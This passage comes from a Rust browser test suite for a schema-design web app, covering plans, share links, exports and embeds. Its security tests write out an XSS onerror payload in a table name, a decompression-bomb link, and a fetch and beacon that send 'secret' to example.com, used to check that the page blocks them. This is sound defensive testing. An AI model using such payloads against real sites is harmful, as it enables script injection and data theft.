        .iter()
        .filter(|t| t.name == "film" || refs(t, "film") || refs(film, &t.name))
        .map(|t| t.name.clone())
        .collect();
    expected.sort();
    assert!(expected.len() >= 4, "{expected:?}");
    page.find_table("film").await;
    let focus = session.client.find(fantoccini::Locator::Css("[data-testid=\"focus\"]")).await.expect("focus menu");
    focus.select_by_value("1").await.expect("one hop");
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let mut cards = page.card_names().await;
    cards.sort();
    cards.dedup();
    assert_eq!(cards, expected, "film and its neighbours, nothing else");
    session.screenshot("04c-pagila-focus-film").await;
    let focus = session.client.find(fantoccini::Locator::Css("[data-testid=\"focus\"]")).await.expect("focus menu");
    focus.select_by_value("0").await.expect("all tables");
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    let cards = page.card_names().await;
    assert!(cards.len() > expected.len(), "every table again after Fit: {}", cards.len());
    session.close().await;
}

#[tokio::test]
async fn a_real_mysql_schema_gets_a_mysql_plan() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-roundcube/mysql.initial.mysql.sql") else { return };
    let session = Session::open(&setup).await;
    let page = open_with(&session, &sql).await;
    let expected = bellows_core::import(&sql, Some(bellows_core::Dialect::MySql)).schema.tables.len();
    page.wait_for_table_count(&format!("{expected} tables")).await;
    page.select_table("identities").await;
    page.rename_column("email", "address").await;
    let plan = page.plan_text().await;
    assert!(plan.contains("rename column identities.email -> address"), "{plan}");
    assert!(plan.contains("ALGORITHM=INSTANT") && plan.contains("SET SESSION lock_wait_timeout"), "{plan}");
    assert!(plan.contains("BEFORE INSERT ON identities") && plan.contains("BEFORE UPDATE ON identities"), "{plan}");
    assert!(!plan.contains("ACCESS EXCLUSIVE") && !plan.contains("lock_timeout = '"), "no PostgreSQL: {plan}");
    session.screenshot("05c-mysql-rename-plan").await;
    session.close().await;
}

#[tokio::test]
async fn deleting_a_column_a_view_reads_blocks_the_plan_and_names_the_view() {
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open(&setup).await;
    let sql = format!("{BOOKS}\nCREATE VIEW recent_books AS SELECT id, title, published_at FROM books WHERE published_at > now() - interval '1 year';\n");
    let page = open_with(&session, &sql).await;
    page.wait_for_table_count("2 tables").await;
    page.select_table("books").await;
    page.delete_column("published_at").await;
    page.click("tab-plan").await;
    let blockers = page.wait_for_text("plan-blockers", "recent_books").await;
    assert!(blockers.contains("This plan cannot run yet"), "{blockers}");
    assert!(blockers.contains("view recent_books reads books.published_at, which the target drops"), "{blockers}");
    session.screenshot("05b-plan-blocked-by-a-view").await;
    session.close().await;
}

#[tokio::test]
async fn the_inspector_says_what_uses_a_table_and_the_canvas_marks_those_tables() {
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open(&setup).await;
    let sql = format!(
        "{BOOKS}ALTER TABLE books ADD CONSTRAINT books_author_fkey FOREIGN KEY (author_id) REFERENCES authors (id);\n\
         CREATE VIEW author_names AS SELECT id, name FROM authors;\n"
    );
    let page = open_with(&session, &sql).await;
    page.wait_for_table_count("2 tables").await;
    page.select_table("authors").await;
    let used = page.wait_for_text("used-by", "author_names").await;
    assert!(used.contains("Used by authors"), "{used}");
    assert!(
        used.contains("books_author_fkey") && used.contains("author_names"),
        "the key into it and the view: {used}"
    );
    let marked = session
        .client
        .execute(
            "return [...document.querySelectorAll('.card.dependent')].map(e => e.getAttribute('data-name'));",
            vec![],
        )
        .await
        .expect("marked cards");
    assert_eq!(marked, serde_json::json!(["books"]), "the table whose key points at authors is marked");
    session.screenshot("05d-used-by").await;
    // A table nothing depends on says so, and nothing is marked.
    page.select_table("books").await;
    let used = page.wait_for_text("used-by", "Used by books").await;
    assert!(!used.contains("author_names"), "{used}");
    session.close().await;
}

#[tokio::test]
async fn dragging_a_column_onto_another_table_adds_a_foreign_key_and_undo_redo_work() {
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open(&setup).await;
    let page = open_with(&session, BOOKS).await;
    page.wait_for_table_count("2 tables").await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    page.drag_foreign_key("books", "author_id", "authors", "id").await;
    page.click("tab-plan").await;
    let plan = page.wait_for_text("plan", "add foreign key").await;
    assert!(plan.contains("add foreign key books(author_id) -> authors"), "{plan}");
    assert!(plan.contains("REFERENCES authors (id)"), "{plan}");
    assert!(plan.contains("NOT VALID"), "{plan}");
    session.screenshot("06-foreign-key-dragged").await;

    page.press("\u{E009}z").await;
    let plan = page.wait_for_text("plan", "same as the base").await;
    assert!(plan.contains("same as the base"), "Ctrl+Z takes the foreign key back: {plan}");
    page.press("\u{E009}\u{E008}z").await;
    let plan = page.wait_for_text("plan", "add foreign key").await;
    assert!(plan.contains("add foreign key"), "Ctrl+Shift+Z brings it back: {plan}");
    page.click("undo").await;
    page.click("redo").await;
    assert!(page.wait_for_text("plan", "add foreign key").await.contains("add foreign key"));
    session.screenshot("07-after-undo-redo").await;
    session.close().await;
}

#[tokio::test]
async fn a_copied_link_opens_the_identical_design_in_a_fresh_browser() {
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open(&setup).await;
    let page = open_with(&session, BOOKS).await;
    page.wait_for_table_count("2 tables").await;
    page.select_table("books").await;
    page.rename_column("title", "headline").await;
    page.add_column("isbn").await;
    let plan_before = page.plan_text().await;
    let cards_before = page.card_positions().await;
    let link = page.copy_link().await;
    assert!(link.contains("#d=2."), "{link}");
    let fragment = link.split_once('#').map(|(_, f)| f.to_string()).unwrap_or_default();
    assert!(page.text_of("link-length").await.ends_with("chars"));
    session.close().await;

    // A different browser profile: no autosave to fall back on.
    let other = Session::open(&setup).await;
    other.client.goto(&format!("{}#{fragment}", other.site.url)).await.expect("link opens");
    let page = Playground { client: &other.client };
    page.wait_until_ready().await;
    page.wait_for_table_count("2 tables").await;
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    // The link carries the model, not the text: the panel shows DDL made from it, and says so.
    let source = page.source_value().await;
    assert!(source.starts_with("-- Regenerated by Bellows"), "{source}");
    assert!(source.contains("CREATE TABLE authors") && source.contains("CREATE INDEX books_author_idx"), "{source}");
    assert!(page.text_of("regenerated-note").await.contains("design files"));
    assert_eq!(page.plan_text().await, plan_before);
    assert_eq!(page.card_positions().await, cards_before);
    other.screenshot("08-opened-from-link").await;

    // Typing in the regenerated text makes the text the base again; the note goes.
    page.type_source("CREATE TABLE solo (id int PRIMARY KEY);").await;
    page.wait_for_table_count("1 table").await;
    let gone = other.client.find(fantoccini::Locator::Css("[data-testid=regenerated-note]")).await.is_err();
    assert!(gone, "the note stays only while the text is the link's");
    other.close().await;
}

/// The trial: Sakila's PostgreSQL schema, five edits on the canvas, "Copy link", and
/// the link opened in a fresh browser gives the same plan.
#[tokio::test]
async fn sakila_with_five_edits_shares_as_a_short_link() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-sakila/postgres-sakila-schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let page = open_with(&session, &sql).await;
    page.wait_for_table_count("21 tables").await;
    session.screenshot("08a-sakila-pasted").await;
    page.find_table("customer").await;
    page.rename_column("email", "email_address").await;
    page.find_table("address").await;
    page.toggle_not_null("postal_code").await;
    page.find_table("film").await;
    page.add_column("subtitle").await;
    page.find_table("actor").await;
    page.set_type("first_name", "character varying(100)").await;
    page.find_table("staff").await;
    page.rename_table("employee").await;
    let plan_before = page.wait_for_text("step-count", "").await;
    let plan_text = page.plan_text().await;
    for change in ["email_address", "postal_code", "subtitle", "character varying(100)", "employee"] {
        assert!(plan_text.contains(change), "the plan has {change}: {plan_text}");
    }
    // "Copy for chat": what lands on the clipboard (caught as the page writes it).
    session
        .client
        .execute("window.__copied = null; navigator.clipboard.writeText = t => { window.__copied = t; return Promise.resolve(); };", vec![])
        .await
        .expect("hook");
    page.click("copy-summary").await;
    let summary = session.client.execute("return window.__copied;", vec![]).await.expect("eval");
    let summary = summary.as_str().unwrap_or_default().to_string();
    assert!(
        summary.starts_with("**Schema change**: 7 changes (PostgreSQL)"),
        "five edits and the view and trigger they touch: {summary}"
    );
    for change in ["email_address", "postal_code", "subtitle", "employee", "replace view sales_by_store"] {
        assert!(summary.contains(change), "{change}: {summary}");
    }
    assert!(summary.contains("**Expand**") && summary.contains("riskiest:"), "{summary}");
    assert!(summary.contains("[Open the design and the full plan](http") && summary.contains("#d=2."), "{summary}");
    assert!(page.text_of("notice").await.contains("Summary copied"));
    session.screenshot("08d-sakila-summary-copied").await;
    // "Download plan": one zip, written by the engine, with the diagram the canvas draws.
    catch_downloads(&session).await;
    page.click("download-plan").await;
    page.settle().await;
    let zips = downloads(&session).await;
    assert_eq!(zips.len(), 1, "one download: {:?}", zips.iter().map(|(n, _)| n).collect::<Vec<_>>());
    assert_eq!(zips[0].0, "bellows-plan.zip");
    let data = zips[0].1.strip_prefix("data:application/zip;base64,").expect("a zip as a data URL");
    let bytes = {
        use base64::Engine;
        base64::engine::general_purpose::STANDARD.decode(data).expect("base64")
    };
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip");
    let mut names: Vec<String> = zip.file_names().map(str::to_string).collect();
    names.sort();
    println!("the plan zip holds: {names:?}");
    // A file pair for each stage that has steps (Sakila's five edits need no Switch step).
    for stage in ["1-expand", "2-backfill", "4-contract"] {
        for way in ["up", "down"] {
            let name = format!("bellows-plan/{stage}.{way}.sql");
            assert!(names.contains(&name), "{name} in {names:?}");
        }
    }
    let mut read = |name: &str| {
        let mut text = String::new();
        std::io::Read::read_to_string(&mut zip.by_name(name).expect(name), &mut text).expect("text");
        text
    };
    assert!(read("bellows-plan/1-expand.up.sql").contains("email_address"));
    assert!(read("bellows-plan/RUNBOOK.md").contains("Expand"));
    let svg = read("bellows-plan/diagram.svg");
    assert!(svg.starts_with("<svg") && svg.contains("employee") && svg.contains("email_address"), "the target drawn");
    assert!(read("bellows-plan/pgroll/bellows.json").contains("\"operations\""));
    let link = page.copy_link().await;
    assert!(link.contains("#d=2."), "{link}");
    let notice = page.text_of("notice").await;
    assert!(notice.contains("Link copied"), "short enough to copy: {notice}");
    println!("Sakila (PostgreSQL, 21 tables) with five edits: a link of {} characters", link.len());
    session.screenshot("08b-sakila-five-edits").await;
    session.close().await;

    let fragment = link.split_once('#').map(|(_, f)| f.to_string()).unwrap_or_default();
    let other = Session::open(&setup).await;
    other.client.goto(&format!("{}#{fragment}", other.site.url)).await.expect("link opens");
    let page = Playground { client: &other.client };
    page.wait_until_ready().await;
    page.wait_for_table_count("21 tables").await;
    assert_eq!(page.wait_for_text("step-count", &plan_before).await, plan_before);
    assert_eq!(page.plan_text().await, plan_text);
    other.screenshot("08c-sakila-opened-from-link").await;
    other.close().await;
}

#[tokio::test]
async fn a_reload_restores_the_autosaved_design() {
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open(&setup).await;
    let page = open_with(&session, BOOKS).await;
    page.wait_for_table_count("2 tables").await;
    page.select_table("authors").await;
    page.rename_column("name", "full_name").await;
    tokio::time::sleep(std::time::Duration::from_millis(800)).await;
    session.client.refresh().await.expect("reload");
    page.wait_until_ready().await;
    assert_eq!(page.wait_for_table_count("2 tables").await, "2 tables");
    let plan = page.plan_text().await;
    assert!(plan.contains("rename column authors.name -> full_name"), "{plan}");
    session.close().await;
}

#[tokio::test]
async fn hostile_or_broken_links_are_refused_with_a_message() {
    use base64_url::encode_deflated;
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open(&setup).await;
    let base = session.site.url.clone();
    let page = Playground { client: &session.client };

    // A decompression bomb: 40 KB of link that unpacks to more than the cap.
    let bomb = encode_deflated(&vec![b' '; 9 * 1024 * 1024]);
    session.client.goto(&format!("{base}#d=1.{bomb}")).await.expect("page loads");
    page.wait_until_ready().await;
    let notice = page.wait_for_text("notice", "refused").await;
    assert!(notice.contains("could not be opened") && notice.contains("refused"), "{notice}");
    assert_eq!(page.table_count().await, "5 tables", "the page still works, on the default design");

    // A cut link.
    session.client.goto(&format!("{base}#d=1.eJzLSM3JyVcozy/KSQEAGgQEXQ")).await.expect("page loads");
    session.client.refresh().await.expect("reload");
    page.wait_until_ready().await;
    assert!(page.wait_for_text("notice", "could not be opened").await.contains("could not be opened"));

    // HTML in a table name is shown as text and never runs.
    let design = serde_json::json!({ "source": "CREATE TABLE \"<img src=x onerror=window.__pwned=1>\" (id int);" });
    let link = format!("{base}#d=1.{}", encode_deflated(design.to_string().as_bytes()));
    session.client.goto(&link).await.expect("page loads");
    session.client.refresh().await.expect("reload");
    page.wait_until_ready().await;
    page.wait_for_table_count("1 table").await;
    let names = page.card_names().await;
    assert_eq!(names, vec!["<img src=x onerror=window.__pwned=1>".to_string()]);
    let pwned = session.client.execute("return window.__pwned === undefined;", vec![]).await.expect("eval");
    assert_eq!(pwned, serde_json::Value::Bool(true), "no script ran");
    session.screenshot("09-hostile-link-as-text").await;
    session.close().await;
}

/// The built site works from a folder of a static host, and its Content-Security-Policy makes the
/// browser itself keep the promise that nothing leaves the page.
#[tokio::test]
async fn the_site_works_from_a_sub_path_and_cannot_send_anything() {
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open_under(&setup, "/tools/bellows/").await;
    assert!(session.site.url.ends_with("/tools/bellows/"), "{}", session.site.url);
    let page = open_with(&session, BOOKS).await;
    assert_eq!(page.wait_for_table_count("2 tables").await, "2 tables");
    // A link made here opens here, under the same folder.
    page.select_table("books").await;
    page.rename_column("title", "headline").await;
    let link = page.copy_link().await;
    assert!(link.contains("/tools/bellows/#d=2."), "{link}");

    let policies: Vec<String> = serde_json::from_value(
        session
            .client
            .execute(
                "return [...document.querySelectorAll('meta[http-equiv=\"Content-Security-Policy\"]')].map(m => m.content);",
                vec![],
            )
            .await
            .expect("eval"),
    )
    .expect("strings");
    assert_eq!(policies.len(), 2, "the page's policy, then the app's lock: {policies:?}");
    assert!(
        policies[0].contains("script-src 'self' 'sha256-") && policies[0].contains("default-src 'none'"),
        "{policies:?}"
    );
    assert_eq!(policies[1], "connect-src 'none'");

    // Every way out is refused by the browser: fetch (to the page's own host too), a beacon, and
    // a script injected as markup.
    let outcome = session
        .client
        .execute_async(
            "const done = arguments[arguments.length - 1];
             (async () => {
               const violations = [];
               document.addEventListener('securitypolicyviolation', e => violations.push(e.effectiveDirective));
               const attempt = p => p.then(() => 'sent', () => 'blocked');
               const results = {};
               results.own = await attempt(fetch('./index.html'));
               results.other = await attempt(fetch('https://example.com/collect', { method: 'POST', body: 'secret' }));
               navigator.sendBeacon('https://example.com/b', 'secret');
               const s = document.createElement('div');
               s.innerHTML = '<img src=x onerror=\"window.__ran = 1\">';
               document.body.appendChild(s);
               await new Promise(r => setTimeout(r, 500));
               results.inline = window.__ran === undefined ? 'blocked' : 'ran';
               results.violations = violations;
               done(results);
             })();",
            vec![],
        )
        .await
        .expect("eval");
    assert_eq!(outcome["own"], "blocked", "{outcome}");
    assert_eq!(outcome["other"], "blocked", "{outcome}");
    assert_eq!(outcome["inline"], "blocked", "{outcome}");
    let violated: Vec<String> = serde_json::from_value(outcome["violations"].clone()).unwrap_or_default();
    let count = |d: &str| violated.iter().filter(|v| *v == d).count();
    assert!(count("connect-src") >= 3, "two fetches and the beacon: {violated:?}");
    assert!(count("script-src-attr") + count("script-src") >= 1, "the injected handler: {violated:?}");
    // The page still works after all that.
    page.type_source("CREATE TABLE solo (id int PRIMARY KEY);").await;
    assert_eq!(page.wait_for_table_count("1 table").await, "1 table");
    session.screenshot("10-sub-path-with-csp").await;
    session.close().await;
}

/// "Export…" downloads the target, as edited, in DBML, Mermaid, Prisma and each SQL dialect
/// (the engine writes them); the DBML and the Prisma schema, pasted back into the source panel,
/// read as what they are into the same tables.
#[tokio::test]
async fn export_downloads_the_designed_schema_in_other_formats_that_read_back() {
    let Some(setup) = Setup::from_env() else { return };
    let session = Session::open(&setup).await;
    let page = open_with(&session, BOOKS).await;
    page.wait_for_table_count("2 tables").await;
    page.select_table("books").await;
    page.rename_column("title", "headline").await;
    page.settle().await;
    // Downloads are caught as the page starts them (an anchor with a data: URL).
    session
        .client
        .execute(
            "window.__downloads = []; HTMLAnchorElement.prototype.click = function () { \
             window.__downloads.push([this.download, decodeURIComponent(this.href.split(',').slice(1).join(','))]); };",
            vec![],
        )
        .await
        .expect("hook");
    // Exports are the full engine's: it loads with the first one.
    assert!(!loaded(&session, "bellows-full").await, "not loaded before an export");
    for choice in ["dbml", "mermaid", "prisma", "mysql"] {
        let select = session.client.find(fantoccini::Locator::Css("[data-testid=export]")).await.expect("export");
        select.select_by_value(choice).await.expect("chosen");
        // The engine writes each file; one at a time keeps the order of the downloads.
        page.settle().await;
    }
    let files: Vec<(String, String)> =
        serde_json::from_value(session.client.execute("return window.__downloads;", vec![]).await.expect("eval"))
            .expect("pairs");
    let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
    assert_eq!(names, ["schema.dbml", "schema.mmd", "schema.prisma", "schema.mysql.sql"]);
    assert!(loaded(&session, "bellows-full_loader.js").await, "the full engine loaded to write them");
    assert!(
        files[0].1.contains("Table books {") && files[0].1.contains("  headline text [not null]"),
        "{}",
        files[0].1
    );
    assert!(files[1].1.starts_with("erDiagram") && files[1].1.contains("text headline"), "{}", files[1].1);
    assert!(files[2].1.contains("model books {") && files[2].1.contains("headline"), "{}", files[2].1);
    assert!(files[3].1.contains("CREATE TABLE `books`") || files[3].1.contains("CREATE TABLE books"), "{}", files[3].1);
    assert!(files[3].1.contains("headline"), "the target, not the base: {}", files[3].1);
    session.screenshot("11-export-menu").await;
    for (file, format) in [(&files[0].1, "read as DBML"), (&files[2].1, "read as Prisma")] {
        page.paste_source(file).await;
        assert_eq!(page.wait_for_text("source-format", format).await, format);
        assert_eq!(page.wait_for_table_count("2 tables").await, "2 tables");
        let errors =
            session.client.find_all(fantoccini::Locator::Css("[data-testid=error-count]")).await.expect("query");
        assert!(errors.is_empty(), "read without errors: {:?}", page.diagnostics().await);
        let card = session
            .client
            .execute("return document.querySelector('[data-testid=table-card][data-name=books]').textContent;", vec![])
            .await
            .expect("eval");
        assert!(card.as_str().unwrap_or_default().contains("headline"), "the edited column came back: {card}");
    }
    session.screenshot("11b-prisma-pasted").await;
    session.close().await;
}

mod base64_url {
    /// deflate + base64url without padding: the link format, written independently of the app.
    pub fn encode_deflated(bytes: &[u8]) -> String {
        use std::io::Write;
        let mut z = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::best());
        z.write_all(bytes).expect("deflate");
        let packed = z.finish().expect("deflate");
        const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        let mut out = String::new();
        for chunk in packed.chunks(3) {
            let n = chunk.iter().enumerate().fold(0u32, |acc, (i, b)| acc | (u32::from(*b) << (16 - 8 * i)));
            for i in 0..=chunk.len() {
                out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
            }
        }
        out
    }
}

/// Catches what the page offers as downloads (anchors it clicks), as `[name, href]` pairs.
async fn catch_downloads(session: &Session) {
    session
        .client
        .execute(
            "window.__downloads = []; HTMLAnchorElement.prototype.click = function () { window.__downloads.push([this.download, this.href]); };
             window.__clipboard = []; navigator.clipboard.write = items => { window.__clipboard.push(items.map(i => i.types.join(','))); return Promise.resolve(); };",
            vec![],
        )
        .await
        .expect("hook");
}

async fn downloads(session: &Session) -> Vec<(String, String)> {
    serde_json::from_value(session.client.execute("return window.__downloads;", vec![]).await.expect("eval"))
        .expect("pairs")
}

/// A PNG's width and height, from its header.
fn png_size(bytes: &[u8]) -> (u32, u32) {
    assert_eq!(&bytes[..8], b"\x89PNG\r\n\x1a\n", "a PNG");
    let be = |i: usize| u32::from_be_bytes([bytes[i], bytes[i + 1], bytes[i + 2], bytes[i + 3]]);
    (be(16), be(20))
}

/// "Picture…": the whole diagram as SVG and PNG (every table at full size, the diff colours, a
/// legend and a title), and as an image on the clipboard, for Sakila and a 119-table schema.
#[tokio::test]
async fn the_diagram_exports_as_a_picture() {
    use base64::Engine;
    let Some(setup) = Setup::from_env() else { return };
    let Some(sakila) = corpus("schema-sakila/postgres-sakila-schema.pg.sql") else { return };
    let Some(synapse) = corpus("pair-synapse/main_full_v54.pg.sql") else { return };
    let session = Session::open(&setup).await;
    for (name, sql, tables) in [("sakila", &sakila, "21 tables"), ("synapse", &synapse, "119 tables")] {
        let page = open_with(&session, sql).await;
        page.wait_for_table_count(tables).await;
        if name == "sakila" {
            page.find_table("customer").await;
            page.rename_column("email", "email_address").await;
        }
        catch_downloads(&session).await;
        for choice in ["svg", "png", "copy"] {
            let select = session.client.find(fantoccini::Locator::Css("[data-testid=picture]")).await.expect("picture");
            select.select_by_value(choice).await.expect("chosen");
            tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
        }
        let files = downloads(&session).await;
        let names: Vec<&str> = files.iter().map(|(n, _)| n.as_str()).collect();
        assert_eq!(names, ["bellows-diagram.svg", "bellows-diagram.png"], "{name}");
        let svg = files[0].1.split_once(',').map(|(_, s)| s).unwrap_or_default();
        let svg = percent_decode(svg);
        assert!(
            svg.contains("<svg")
                && svg.matches("<g>").count() >= tables.split(' ').next().and_then(|n| n.parse().ok()).unwrap_or(1),
            "{name}: every table drawn"
        );
        let png = base64::engine::general_purpose::STANDARD
            .decode(files[1].1.split_once(',').map(|(_, b)| b).unwrap_or_default())
            .expect("base64 PNG");
        let (w, h) = png_size(&png);
        let path = setup.screenshots.join(format!("12-diagram-{name}.png"));
        std::fs::write(&path, &png).expect("saved");
        println!(
            "{name}: SVG {} KB; PNG {w} x {h} px, {} KB, at {}",
            svg.len() / 1024,
            png.len() / 1024,
            path.display()
        );
        assert!(w >= 800 && h >= 400, "{name}: {w} x {h}");
        let copied = session.client.execute("return window.__clipboard;", vec![]).await.expect("eval");
        assert_eq!(copied, serde_json::json!([["image/png"]]), "{name}: an image went to the clipboard");
        assert!(page.text_of("notice").await.contains("Diagram copied as an image"), "{name}");

        // The part the canvas shows after zooming in on its centre.
        for _ in 0..6 {
            session
                .client
                .execute("document.querySelector('button[title=\"Zoom in\"]').click();", vec![])
                .await
                .expect("zoomed");
        }
        println!("{name}: zoomed in to {}", page.text_of("zoom-level").await);
        catch_downloads(&session).await;
        for choice in ["view-svg", "view-png"] {
            let select = session.client.find(fantoccini::Locator::Css("[data-testid=picture]")).await.expect("picture");
            select.select_by_value(choice).await.expect("chosen");
            tokio::time::sleep(std::time::Duration::from_millis(1500)).await;
        }
        let files = downloads(&session).await;
        let svg = percent_decode(files[0].1.split_once(',').map(|(_, s)| s).unwrap_or_default());
        let drawn = svg.matches("<g>").count();
        let all: usize = tables.split(' ').next().and_then(|n| n.parse().ok()).unwrap_or(0);
        let png = base64::engine::general_purpose::STANDARD
            .decode(files[1].1.split_once(',').map(|(_, b)| b).unwrap_or_default())
            .expect("base64 PNG");
        let (w, h) = png_size(&png);
        let path = setup.screenshots.join(format!("12-diagram-{name}-view.png"));
        std::fs::write(&path, &png).expect("saved");
        session.screenshot(&format!("12-canvas-{name}-view")).await;
        assert!(svg.contains("(part shown)"), "{name}: the title says it is a part");
        assert!(drawn >= 1 && drawn < all, "{name}: {drawn} of {all} tables in view");
        println!("{name}, the part in view: {drawn} of {all} tables; PNG {w} x {h} px at {}", path.display());
    }
    session.close().await;
}

fn percent_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' && i + 2 < bytes.len() {
            if let Ok(b) = u8::from_str_radix(&text[i + 1..i + 3], 16) {
                out.push(b);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// `?embed` with a design's link, under a sub-path as a wiki's iframe would load it: the canvas
/// and the plan, read-only, no editing chrome, and a way to the full app.
#[tokio::test]
async fn an_embed_link_shows_the_canvas_and_the_plan_read_only() {
    use bellows_core::share::{encode, Design};
    let Some(setup) = Setup::from_env() else { return };
    let base = bellows_core::import(BOOKS, Some(bellows_core::Dialect::Postgres)).schema;
    let books = base.find_table("books").expect("books");
    let mut design = Design::new(BOOKS);
    design.edits.push(bellows_core::edit::Edit::RenameColumn {
        table: books.id,
        column: books.column("title").expect("title").id,
        to: "headline".into(),
    });
    let session = Session::open_under(&setup, "/wiki/bellows/").await;
    session.client.goto(&format!("{}?embed#{}", session.site.url, encode(&design))).await.expect("embed opens");
    let page = Playground { client: &session.client };
    // No source panel, so no table count: the embed's own bar says it is up.
    session
        .client
        .wait()
        .at_most(std::time::Duration::from_secs(20))
        .for_element(fantoccini::Locator::Css("[data-testid=embed-bar]"))
        .await
        .expect("the embed mounts");
    assert!(page.wait_for_text("embed-bar", "2 tables").await.contains("2 tables"));
    assert!(session.client.find(fantoccini::Locator::Css("[data-testid=copy-link]")).await.is_err(), "no header");
    assert!(
        session.client.find(fantoccini::Locator::Css("[data-testid=source-input]")).await.is_err(),
        "no source panel"
    );
    assert_eq!(page.card_names().await.len(), 2);
    let plan = page.text_of("plan").await;
    assert!(plan.contains("rename column books.title -> headline"), "{plan}");
    let add = session.client.find(fantoccini::Locator::Css("[data-testid=add-table]")).await.expect("add table");
    assert_eq!(add.attr("disabled").await.expect("attr").as_deref(), Some("true"), "read-only");
    let full = session.client.find(fantoccini::Locator::Css("[data-testid=embed-bar] a")).await.expect("link");
    let href = full.attr("href").await.expect("href").unwrap_or_default();
    assert!(href.starts_with("/wiki/bellows/#d=2.") && !href.contains("embed"), "{href}");
    session.screenshot("13-embed").await;
    session.close().await;
}

/// Twenty statements of a rental shop's application over Sakila, five of which read
/// `customer.email`.
const SAKILA_APP: &str = "-- name: GetCustomer :one
SELECT customer_id, first_name, last_name, email FROM customer WHERE customer_id = $1;
-- name: CustomerByEmail :one
SELECT customer_id FROM customer WHERE email = $1;
-- name: ListFilms :many
SELECT film_id, title, rating FROM film ORDER BY title LIMIT $1;
-- name: FilmActors :many
SELECT a.first_name, a.last_name FROM actor a JOIN film_actor fa ON fa.actor_id = a.actor_id WHERE fa.film_id = $1;
-- name: RentalsOfCustomer :many
SELECT r.rental_id, r.rental_date, r.return_date FROM rental r WHERE r.customer_id = $1;
-- name: OpenRentals :many
SELECT rental_id FROM rental WHERE return_date IS NULL;
-- name: PaymentsTotal :many
SELECT customer_id, sum(amount) FROM payment GROUP BY customer_id;
-- name: InsertRental :exec
INSERT INTO rental (rental_date, inventory_id, customer_id, staff_id) VALUES (now(), $1, $2, $3);
-- name: ReturnRental :exec
UPDATE rental SET return_date = now() WHERE rental_id = $1;
-- name: StoreInventory :many
SELECT i.inventory_id, f.title FROM inventory i JOIN film f ON f.film_id = i.film_id WHERE i.store_id = $1;
-- name: Categories :many
SELECT category_id, name FROM category ORDER BY name;
-- name: FilmsInCategory :many
SELECT f.title FROM film f JOIN film_category fc ON fc.film_id = f.film_id WHERE fc.category_id = $1;
-- name: CustomerAddress :one
SELECT a.address, a.district, a.postal_code, c.city FROM address a JOIN city c ON c.city_id = a.city_id WHERE a.address_id = $1;
-- name: UpdateEmail :exec
UPDATE customer SET email = $2 WHERE customer_id = $1;
-- name: NewCustomer :exec
INSERT INTO customer (store_id, first_name, last_name, email, address_id) VALUES ($1, $2, $3, $4, $5);
-- name: StaffLogin :one
SELECT staff_id, password FROM staff WHERE username = $1;
-- name: CountryCities :many
SELECT ci.city FROM city ci JOIN country co ON co.country_id = ci.country_id WHERE co.country = $1;
-- name: LatePayments :many
SELECT p.payment_id, p.amount FROM payment p WHERE p.payment_date < $1;
-- name: DeleteFilmActor :exec
DELETE FROM film_actor WHERE actor_id = $1 AND film_id = $2;
-- name: Mailing :many
SELECT first_name || ' ' || last_name AS name, email FROM customer WHERE activebool;
";

/// The Consumers tab: a consumer's twenty statements over Sakila, then `customer.email` renamed
/// on the canvas. The five statements that read it stop working at Contract, each with its
/// rewrite; the Plan tab lists them under Contract; undo clears them; the link carries the
/// consumer to a fresh browser, which shows the same.
#[tokio::test]
async fn consumers_show_which_statements_a_rename_breaks_and_their_rewrites() {
    let Some(setup) = Setup::from_env() else { return };
    let Some(sql) = corpus("schema-sakila/postgres-sakila-schema.pg.sql") else { return };
    let session = Session::open(&setup).await;
    let (page, _) = open_pg_dump(&session, &sql).await;
    page.click("tab-consumers").await;
    page.click("add-consumer").await;
    session
        .client
        .execute(
            "const el = document.querySelector('[data-testid=\"consumer-sql\"]');
             el.value = arguments[0]; el.dispatchEvent(new InputEvent('input', { bubbles: true }));",
            vec![serde_json::Value::String(SAKILA_APP.to_string())],
        )
        .await
        .expect("pasted");
    let summary = page.wait_for_text("consumer-summary", "20 statements").await;
    assert_eq!(summary, "20 statements: all run at every stage", "every statement reads the base");

    page.find_table("customer").await;
    page.rename_column("email", "email_address").await;
    page.click("tab-consumers").await;
    let summary = page.wait_for_text("consumer-summary", "break").await;
    assert_eq!(summary, "20 statements: 5 break");
    assert_eq!(page.text_of("consumer-count").await, "5");
    let texts = |test_id: &'static str| {
        let client = &session.client;
        async move {
            let items =
                client.find_all(fantoccini::Locator::Css(&format!("[data-testid={test_id}]"))).await.expect("items");
            let mut out = Vec::new();
            for item in items {
                out.push(item.text().await.expect("text"));
            }
            out
        }
    };
    let outcomes = texts("outcome").await;
    for name in ["GetCustomer", "CustomerByEmail", "UpdateEmail", "NewCustomer", "Mailing"] {
        assert!(
            outcomes.iter().any(|o| o.starts_with(name) && o.contains("after Contract")),
            "{name} breaks at Contract: {outcomes:#?}"
        );
    }
    let rewrites = texts("rewrite").await;
    assert_eq!(rewrites.len(), 5, "each of the five rewritten for the target: {rewrites:#?}");
    assert!(rewrites.iter().all(|r| r.contains("email_address")), "{rewrites:#?}");
    assert!(
